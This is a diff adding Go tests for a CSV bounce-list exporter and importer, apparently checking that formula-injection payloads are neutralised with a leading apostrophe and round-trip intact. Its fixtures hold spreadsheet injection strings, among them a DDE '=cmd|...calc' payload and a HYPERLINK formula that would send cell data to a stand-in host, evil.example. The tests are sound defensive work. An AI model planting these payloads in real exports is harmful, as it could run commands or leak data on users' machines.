@@ -2,6 +2,7 @@ package csvlist
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"io"
 	"strings"
@@ -179,4 +180,107 @@ func FuzzReader(f *testing.F) {
 			}
 		}
 	})
+}
+
+// hostileRows carry what outsiders control: a bounce reason is a remote
+// mail server's text, and this address passes every address check.
+var hostileRows = []Row{
+	{Email: "=cmd|'/Ccalc'!A0@evil.example", EmailNorm: "=cmd|'/ccalc'!a0@evil.example", Created: time.Unix(1764201600, 0).UTC(),
+		Status: "=1+1", Reason: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
+	{Email: "+1@evil.example", EmailNorm: "+1@evil.example", Created: time.Unix(1764201601, 0).UTC(), Status: "+5.1.1", Reason: "-2+3"},
+	{Email: "-x@evil.example", EmailNorm: "-x@evil.example", Created: time.Unix(1764201602, 0).UTC(), Status: "@SUM(1)", Reason: "@SUM(A1:A9)"},
+	{Email: "tab@evil.example", EmailNorm: "tab@evil.example", Created: time.Unix(1764201603, 0).UTC(), Status: "\t=2+2", Reason: "\r=2+2"},
+	{Email: "ok@example.com", EmailNorm: "ok@example.com", Created: time.Unix(1764201604, 0).UTC(), Status: "5.1.1", Reason: "550 a=b, '=c"},
+}
+
+// No exported cell starts with a character a spreadsheet runs as a
+// formula, and the export reads back to the same rows (a protective
+// leading tab included).
+func TestExportNeutralisesFormulas(t *testing.T) {
+	for _, unix := range []bool{false, true} {
+		var buf bytes.Buffer
+		w, err := NewWriter(&buf, "bounces", unix)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, r := range hostileRows {
+			if err := w.Write(r); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := w.Flush(); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(recs) != 1+len(hostileRows) {
+			t.Fatalf("%d records, want %d", len(recs), 1+len(hostileRows))
+		}
+		for i, rec := range recs[1:] {
+			want := hostileRows[i]
+			for j, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("row %d column %d: %q starts a formula", i, j, cell)
+				}
+			}
+			if rec[0] != Escape(want.Email) || rec[2] != Escape(want.Status) || rec[3] != Escape(want.Reason) {
+				t.Errorf("row %d: %q", i, rec)
+			}
+		}
+		if got := recs[1][0]; got != "'=cmd|'/Ccalc'!A0@evil.example" {
+			t.Errorf("hostile address written as %q", got)
+		}
+		r, err := NewReader(&buf, time.UTC, time.Now())
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, want := range hostileRows {
+			got, err := r.Next()
+			if err != nil {
+				t.Fatalf("row %d: %v", i, err)
+			}
+			if got.Email != want.Email || got.EmailNorm != want.EmailNorm || got.Status != want.Status || got.Reason != want.Reason || !got.Created.Equal(want.Created) {
+				t.Errorf("unix=%v row %d read back as\n%+v, want\n%+v", unix, i, got, want)
+			}
+		}
+	}
+}
+
+// Import removes one apostrophe before a formula character and nothing
+// else; it keeps a leading tab (which protects a cell) in a reason.
+func TestImportUnescapes(t *testing.T) {
+	in := "email,created,status,reason\n" +
+		"'=a@x.org,1764201600,'=1,\t=2+2\n" +
+		"b@x.org,1764201600,'5.1.1,''=x\n" +
+		"c@x.org,1764201600, 5.1.1 ,'\t=2+2\n"
+	r, err := NewReader(strings.NewReader(in), time.UTC, time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []Row{
+		{Email: "=a@x.org", Status: "=1", Reason: "\t=2+2"},
+		{Email: "b@x.org", Status: "'5.1.1", Reason: "''=x"},
+		{Email: "c@x.org", Status: "5.1.1", Reason: "\t=2+2"},
+	} {
+		got, err := r.Next()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got.Email != want.Email || got.Status != want.Status || got.Reason != want.Reason {
+			t.Errorf("read %q %q %q, want %q %q %q", got.Email, got.Status, got.Reason, want.Email, want.Status, want.Reason)
+		}
+	}
+	var buf bytes.Buffer
+	c := NewCSV(&buf)
+	if err := c.Write([]string{"\t=2+2", "=x", "a-b", ""}); err != nil {
+		t.Fatal(err)
+	}
+	if err := c.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	if got := buf.String(); got != "'\t=2+2,'=x,a-b,\n" {
+		t.Errorf("CSV wrote %q", got)
+	}
 }
